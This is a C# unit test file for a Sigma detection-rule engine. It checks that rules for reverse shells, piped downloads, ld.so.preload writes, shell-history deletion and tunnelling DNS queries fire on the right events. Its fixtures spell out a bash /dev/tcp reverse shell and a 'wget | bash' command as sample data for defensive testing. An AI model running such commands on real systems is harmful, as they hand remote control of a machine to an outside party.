using Detektr.Sigma.Events;
using Detektr.Sigma.Loading;
using Detektr.Sigma.Matching;
using Detektr.Sigma.Rules;

namespace Detektr.Sigma.Tests.Matching;

public sealed class CompiledRuleSetTests
{
    private static readonly SigmaLoadResult Loaded = SigmaRuleLoader.LoadDirectory(Rules.TestData("rules"));

    [Fact]
    public void Returns_the_matching_rules_in_set_order()
    {
        CompiledRuleSet set = Loaded.Compile();
        SigmaEvent evt = Rules.Process(("Image", "/bin/bash"), ("CommandLine", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
            ("ParentCommandLine", "wget -qO- http://x/s | bash"));

        IReadOnlyList<SigmaRule> matches = set.Match(evt);

        Assert.Equal(["Download Piped Into a Shell", "Reverse Shell Command Line"], matches.Select(r => r.Title).Order(StringComparer.Ordinal));
        Assert.Equal(matches, matches.OrderBy(r => set.Rules.ToList().IndexOf(r)));
    }

    [Fact]
    public void Evaluates_an_event_only_against_rules_of_its_event_type()
    {
        CompiledRuleSet set = Loaded.Compile();
        SigmaEvent fileEvent = Rules.Event("file_event", ("Operation", "write"), ("TargetFilename", "/etc/ld.so.preload"),
            ("CommandLine", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
        SigmaEvent untyped = SigmaEvent.FromDictionary([new("CommandLine", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")]);

        Assert.Equal(["Write to ld.so.preload"], set.Match(fileEvent).Select(r => r.Title));
        Assert.Empty(set.Match(untyped));
        Assert.Contains("file_event", set.EventTypes);
        SigmaRule reverse = set.Rules.Single(r => r.Title == "Reverse Shell Command Line");
        Assert.Equal(SigmaOutcome.NotApplicable, reverse.Evaluate(fileEvent).Outcome);
    }

    [Fact]
    public void File_delete_rules_apply_only_to_delete_operations()
    {
        SigmaRule history = Loaded.Rules.Single(r => r.Title == "Shell History Deleted");

        Assert.True(history.Matches(Rules.Event("file_event", ("Operation", "delete"), ("TargetFilename", "/home/a/.bash_history"))));
        Assert.Equal(SigmaOutcome.NotApplicable,
            history.Evaluate(Rules.Event("file_event", ("Operation", "write"), ("TargetFilename", "/home/a/.bash_history"))).Outcome);
        Assert.Equal(SigmaOutcome.NoMatch,
            history.Evaluate(Rules.Event("file_event", ("Operation", "delete"), ("TargetFilename", "/home/a/notes"))).Outcome);
    }

    [Fact]
    public void The_allocation_free_overload_adds_to_the_given_collection()
    {
        CompiledRuleSet set = Loaded.Compile();
        var matches = new List<SigmaRule>();

        int count = set.Match(Rules.Process(("Image", "/usr/bin/whoami")), matches);
        count += set.Match(Rules.Event("dns_query", ("QueryName", "x.trycloudflare.com")), matches);

        Assert.Equal(2, count);
        Assert.Equal(["System Discovery Commands", "DNS Query for a Tunnelling Service"], matches.Select(r => r.Title));
    }
}
